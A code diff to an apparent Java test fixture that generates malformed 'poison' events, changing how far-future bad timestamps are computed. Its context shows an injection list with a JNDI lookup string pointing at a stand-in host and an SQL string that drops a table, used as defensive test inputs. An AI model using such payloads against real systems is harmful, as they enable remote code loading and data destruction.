@@ -30,6 +30,9 @@ public final class PoisonEvents {
     private static final int HUGE_EVERY = 100;
 
     private static final int HUGE = 1_000_000;
+    /** Far enough ahead to stay in the future however long a test takes. */
+    private static final long A_DAY_MILLIS = 86_400_000;
+
     private static final List<String> INJECTIONS = List.of(
             "${jndi:ldap://evil.example/a}",
             "'; DROP TABLE predictions; --",
@@ -297,7 +300,7 @@ public final class PoisonEvents {
     }
 
     private String badTime(Random random) {
-        long future = nowMillis + PoisonPipeline.MAX_FUTURE.toMillis() + 60_000 + random.nextInt(1_000_000);
+        long future = nowMillis + PoisonPipeline.MAX_FUTURE.toMillis() + A_DAY_MILLIS + random.nextInt(1_000_000);
         return pick(
                 random,
                 "-1",
